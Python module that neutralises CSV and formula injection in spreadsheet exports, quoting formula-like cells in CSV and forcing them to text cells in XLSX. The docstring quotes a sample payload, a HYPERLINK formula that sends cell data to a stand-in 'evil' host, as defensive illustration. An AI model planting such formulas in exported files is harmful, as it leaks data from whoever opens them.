"""Cells written for spreadsheets: imported text is never written as a live formula.

A victim list, a file name or a report can carry ``=HYPERLINK("http://evil/?"&A1, "click")``
or a DDE payload; a CSV or XLSX export that writes it as it is hands it to Excel or LibreOffice
as a formula, run when an analyst opens the file (CSV injection, OWASP). The OWASP rule: a
cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written as text.

- In CSV a single quote is put in front (``'=HYPERLINK(...)``): spreadsheets show the text, and
  any reader sees that the quote was added (a leading quote is never part of a real value
  we export unescaped).
- In XLSX the cell is a string cell (never an ``<f>`` formula) with Excel's quote prefix, so
  it stays text even when the cell is edited; the value itself is unchanged.

Numbers are not touched: an int or float stays a number, and a string that is just a number
(``-12``, ``+3.5``, ``-1e3``) is left as it is, since it cannot call anything.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any, Protocol

from casefile.errors import CasefileError

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def is_formula_like(value: str) -> bool:
    """True when a spreadsheet could read ``value`` as a formula."""
    if not value:
        return False
    # Leading spaces and line breaks are skipped by some spreadsheet imports: look past them.
    start = value.lstrip(" \n")
    if not start:
        return False
    if value[0] not in TRIGGERS and start[0] not in TRIGGERS:
        return False
    return _NUMBER.fullmatch(value.strip()) is None


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: formula-like text gets a leading single quote."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``csv_cell``."""

    def __init__(self, f: Any, **fmt: Any) -> None:
        self._writer: _Writer = csv.writer(f, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """``csv.DictWriter`` whose cells (and header) go through ``csv_cell``."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: csv_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        # DictWriter.writerows bypasses writerow: route every row through it.
        for row in rowdicts:
            self.writerow(row)

    def writeheader(self) -> Any:
        return self.writer.writerow([csv_cell(h) for h in self.fieldnames])


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Appends a row to an openpyxl worksheet, formula-like text as text cells."""
    row = list(values)
    sheet.append(row)
    if not row:
        return
    cells = sheet[sheet.max_row]
    for cell, value in zip(cells, row, strict=False):
        if isinstance(value, str) and is_formula_like(value):
            cell.data_type = "s"  # openpyxl made "=..." a formula: a string, never <f>
            cell.quotePrefix = True


def write_rows(out: Path, rows: list[dict[str, Any]], columns: list[str] | None = None) -> None:
    """Writes ``rows`` to ``out`` as .csv (UTF-8) or .xlsx, one column per key of the first
    row (or ``columns``, in that order); every cell as above, never a live formula."""
    cols = columns or (list(rows[0]) if rows else ["person_id"])
    suffix = out.suffix.lower()
    if suffix == ".xlsx":
        import openpyxl

        wb = openpyxl.Workbook()
        sh = wb.active
        assert sh is not None
        # Imported cells may hold "=HYPERLINK(...)": written as text cells, never formulas.
        xlsx_append(sh, cols)
        for r in rows:
            xlsx_append(sh, [r.get(c, "") for c in cols])
        wb.save(out)
    elif suffix == ".csv":
        with out.open("w", newline="", encoding="utf-8") as f:
            w = SafeDictWriter(f, fieldnames=cols)
            w.writeheader()
            w.writerows(rows)
    else:
        raise CasefileError(f"{out}: write .csv or .xlsx")
